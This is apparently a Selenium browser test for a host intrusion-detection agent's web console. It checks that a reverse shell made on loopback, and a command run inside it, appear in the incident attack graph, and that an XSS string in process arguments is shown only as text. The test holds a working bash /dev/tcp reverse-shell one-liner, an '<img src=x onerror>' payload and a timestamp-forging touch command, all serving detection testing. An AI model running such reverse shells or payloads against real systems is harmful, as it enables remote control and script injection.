package dev.vigil.cli;

import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.io.File;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

/**
 * The console in Debian's Chromium, headless, driven by Selenium: log in with the token, open the
 * incident of a reverse shell made on loopback, find in its attack graph the listener's address,
 * the shell's command line and the command run inside it, and see hostile argv shown as text.
 * A screenshot is saved as target/console-attack-graph.png.
 */
class ConsoleBrowserTest {
    private static final String HOSTILE = "<img src=x onerror=alert(1)>";

    @Test
    void anIncidentsAttackGraphInARealBrowser() throws Exception {
        if (!Files.isExecutable(Path.of("/usr/bin/chromium")) || !Files.isExecutable(Path.of("/usr/bin/chromedriver"))) {
            if ("true".equals(System.getenv("CI"))) {
                fail("Chromium and chromedriver are needed (apt-get install chromium chromium-driver; ./vigil test installs them)");
            }
            org.junit.jupiter.api.Assumptions.abort("no /usr/bin/chromium or /usr/bin/chromedriver");
        }
        Path data = Files.createTempDirectory("vigil-browser");
        try (AgentProcess agent = AgentProcess.start("--data", data.toString(), "--listen", "127.0.0.1:0");
             ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Matcher m = Pattern.compile("console (http://\\S+/) token ([0-9a-f]{64})").matcher(String.join("\n", agent.stderr));
            assertTrue(m.find(), String.valueOf(agent.stderr));
            String base = m.group(1), token = m.group(2);
            int port = listener.getLocalPort();
            Process bash = new ProcessBuilder("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + "; exec sh -i <&3 >&3 2>&3").start();
            try (Socket s = listener.accept()) {
                OutputStream out = s.getOutputStream();
                out.write(("uname -a\nsh -c 'echo \"" + HOSTILE + "\"'\nexit\n").getBytes(StandardCharsets.UTF_8));
                out.flush();
                s.getInputStream().readAllBytes();
            }
            assertTrue(bash.waitFor(10, TimeUnit.SECONDS));
            long shell = bash.pid();
            agent.await("Reverse shell", a -> a.get("events").get(0).get("pid").asLong() == shell);
            // the store commits every 200 ms and the page redraws every few seconds: the waits below allow for both

            ChromeOptions options = new ChromeOptions();
            options.setBinary("/usr/bin/chromium");
            options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--window-size=1400,1000");
            ChromeDriverService service = new ChromeDriverService.Builder().usingDriverExecutable(new File("/usr/bin/chromedriver")).build();
            WebDriver browser = new ChromeDriver(service, options);
            try {
                WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(20));
                browser.get(base);
                browser.findElement(By.id("token")).sendKeys(token);
                browser.findElement(By.cssSelector("#login-form button")).click();
                // rows are redrawn every few seconds: find and click in one step inside the page, so no handle goes stale
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "const r = [...document.querySelectorAll('#incident-rows tr')].find(r => r.textContent.includes('shell'));"
                                + " if (r) { r.click(); return true; } return false;")));
                wait.until(d -> ((JavascriptExecutor) d).executeScript("return window.vigilGraph && window.vigilGraph.nodes().length > 0"));
                JavascriptExecutor js = (JavascriptExecutor) browser;
                @SuppressWarnings("unchecked")
                List<String> labels = (List<String>) js.executeScript("return window.vigilGraph.nodes().map(n => n.data('label'))");
                String all = String.join("\n", labels);
                assertTrue(all.contains("127.0.0.1:" + port), "the listener's address is in the graph: " + all);
                assertTrue(all.contains("sh -i"), "the shell's command line is in the graph: " + all);
                assertTrue(all.contains("uname -a"), "the command run inside the shell is in the graph: " + all);
                // the hostile argv, selected in the graph, is shown in the details as text: no element is made of it
                js.executeScript("const n = window.vigilGraph.nodes().filter(n => (n.data('label') || '').includes('onerror'))[0];"
                        + " if (n) { n.emit('tap'); }");
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.getElementById('node-json').textContent.includes(arguments[0])", HOSTILE)));
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.getElementById('node-events').textContent.includes('execve')")));
                assertEquals(0L, js.executeScript("return document.querySelectorAll('img').length"), "no <img> was made from event text");
                Path shot = ((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE).toPath();
                Files.createDirectories(Path.of("target"));
                Files.copy(shot, Path.of("target/console-attack-graph.png"), StandardCopyOption.REPLACE_EXISTING);
                // the shell's process page, from its node: its children include the command run inside it
                js.executeScript("const n = window.vigilGraph.nodes().filter(n => n.data('raw').pid === arguments[0])[0]; if (n) { n.emit('tap'); }", shell);
                wait.until(d -> d.findElement(By.id("node-process")).isDisplayed());
                browser.findElement(By.id("node-process")).click();
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return !document.getElementById('process').hidden && document.getElementById('process-children').textContent.includes('uname -a')")));
                Files.copy(((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE).toPath(), Path.of("target/console-process.png"),
                        StandardCopyOption.REPLACE_EXISTING);
                // the incidents page filtered: CRITICAL and above keeps the shell, EMERGENCY leaves nothing of it
                browser.get(base + "#incidents?priority=CRITICAL");
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.getElementById('incident-rows').textContent.includes('Reverse shell')")));
                assertEquals("CRITICAL", js.executeScript("return document.querySelector('#filter select[name=priority]').value"));
                browser.get(base + "#incidents?priority=EMERGENCY");
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.querySelector('#filter select[name=priority]').value === 'EMERGENCY'"
                                + " && !document.getElementById('incident-rows').textContent.includes('Reverse shell')")));
                // live: an alert raised while the alerts page is open appears on it, marked new, without a reload
                browser.get(base + "#alerts");
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.getElementById('alert-rows').textContent.includes('Reverse shell')")));
                Path stamp = Files.createTempFile("vigil-live", ".txt");
                new ProcessBuilder("setsid", "touch", "-d", "2001-01-01", stamp.toString()).start().waitFor(10, TimeUnit.SECONDS);
                Files.deleteIfExists(stamp);
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return [...document.querySelectorAll('#alert-rows tr.new')].some(r => r.textContent.includes('Timestamps forged'))")));
                // the rules page counts the shell's hits and leads to its alerts
                browser.findElement(By.cssSelector("#nav a[data-view=rules]")).click();
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "const r = [...document.querySelectorAll('#rule-rows tr')].find(r => r.cells[0].textContent === 'Reverse shell');"
                                + " return !!r && Number(r.cells[4].textContent) >= 1")));
                js.executeScript("[...document.querySelectorAll('#rule-rows tr')].find(r => r.cells[0].textContent === 'Reverse shell').click()");
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "const rows = [...document.querySelectorAll('#alert-rows tr')];"
                                + " return rows.length > 0 && rows.every(r => r.cells[2].textContent === 'Reverse shell')")));
                Files.copy(((TakesScreenshot) browser).getScreenshotAs(OutputType.FILE).toPath(), Path.of("target/console-alerts.png"),
                        StandardCopyOption.REPLACE_EXISTING);
                // the other pages: event search lists execs, the health page shows events by hook
                browser.findElement(By.cssSelector("#nav a[data-view=events]")).click();
                browser.findElement(By.id("ev-type")).sendKeys("execve");
                browser.findElement(By.cssSelector("#event-form button")).click();
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.getElementById('event-rows').textContent.includes('execve')")));
                browser.findElement(By.cssSelector("#nav a[data-view=health]")).click();
                wait.until(d -> Boolean.TRUE.equals(((JavascriptExecutor) d).executeScript(
                        "return document.getElementById('health-rows').textContent.includes('events_by_hook')")));
            } finally {
                browser.quit();
            }
            assertEquals(0, agent.stop());
        }
    }
}
